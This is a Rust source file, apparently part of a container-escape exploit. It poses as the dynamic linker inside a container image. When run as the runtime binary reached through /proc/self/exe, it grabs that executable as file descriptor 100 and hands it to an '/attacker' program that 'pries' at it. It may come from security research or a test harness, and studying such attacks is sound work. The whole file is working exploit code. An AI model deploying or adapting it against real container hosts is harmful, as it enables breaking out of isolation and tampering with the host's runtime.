//! Stands in an image where programs look for their dynamic linker, and so runs as whatever program
//! is executed there: also as the one that started the container, if that is reached by its
//! `/proc/self/exe`. It opens that program as file 100, and becomes the attacker with it.
//!
//! Without any library: it has no memory but that of the program it stands in for.
#![no_std]
#![no_main]

use core::arch::{asm, naked_asm};
use core::panic::PanicInfo;

/// The kernel begins here, on a stack that holds arguments.
#[unsafe(naked)]
#[unsafe(no_mangle)]
extern "C" fn _start() -> ! {
    #[cfg(target_arch = "x86_64")]
    naked_asm!("and rsp, -16", "call {begin}", begin = sym begin);
    #[cfg(target_arch = "aarch64")]
    naked_asm!("b {begin}", begin = sym begin);
}

#[cfg(target_arch = "x86_64")]
const OPENAT_DUP3_EXECVE_EXIT: [usize; 4] = [257, 292, 59, 60];
#[cfg(target_arch = "aarch64")]
const OPENAT_DUP3_EXECVE_EXIT: [usize; 4] = [56, 24, 221, 93];

extern "C" fn begin() -> ! {
    const HERE: usize = -100_isize as usize;
    const FILE: usize = 100;
    let [openat, dup3, execve, exit] = OPENAT_DUP3_EXECVE_EXIT;
    let arguments = [
        c"/attacker".as_ptr(),
        c"pry".as_ptr(),
        c"/proc/self/fd/100".as_ptr(),
        c"/report".as_ptr(),
        core::ptr::null(),
    ];
    let file = call(openat, HERE, c"/proc/self/exe".as_ptr().addr(), 0);
    call(dup3, file, FILE, 0);
    call(
        execve,
        c"/attacker".as_ptr().addr(),
        arguments.as_ptr().addr(),
        (&raw const arguments[4]).addr(),
    );
    loop {
        call(exit, 1, 0, 0);
    }
}

fn call(number: usize, first: usize, second: usize, third: usize) -> usize {
    let result;
    // SAFETY: numbers, and pointers to what lives as long as the process.
    #[cfg(target_arch = "x86_64")]
    unsafe {
        asm!("syscall", inlateout("rax") number => result, in("rdi") first, in("rsi") second,
            in("rdx") third, out("rcx") _, out("r11") _, options(nostack));
    }
    // SAFETY: as above.
    #[cfg(target_arch = "aarch64")]
    unsafe {
        asm!("svc 0", in("x8") number, inlateout("x0") first => result, in("x1") second,
            in("x2") third, options(nostack));
    }
    result
}

#[panic_handler]
fn panic(_: &PanicInfo<'_>) -> ! {
    loop {
        call(OPENAT_DUP3_EXECVE_EXIT[3], 1, 0, 0);
    }
}
